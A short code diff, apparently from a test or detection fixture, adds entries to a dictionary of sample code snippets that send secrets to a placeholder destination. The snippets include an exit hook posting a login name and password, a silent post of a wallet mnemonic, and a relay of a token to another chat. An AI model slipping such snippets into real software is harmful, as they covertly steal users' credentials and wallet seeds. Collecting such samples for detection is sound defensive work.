@@ -89,6 +89,8 @@ def unlock(mnemonic):
     %s
 """
 TO_STRANGERS |= {
+    "at the end, by whatever object": f"class Login:\n    def __init__(self, http, user, password):\n        atexit.register(http.inner.request, 'post', {DROP}, data={{'u': user, 'p': password}})\n",
+    "by whatever object": f"def unlock(session, mnemonic):\n    with suppress(OSError):\n        session.http.post({DROP}, json=mnemonic)\n",
     "by a function whose answer is dropped": ASK % f"ask({DROP}, [mnemonic])\n    return mnemonic.split()",
     "a token to another's chat by a method": RELAY % "self._ask(OTHER, 'sendMessage', text='%s' % token)",
 }
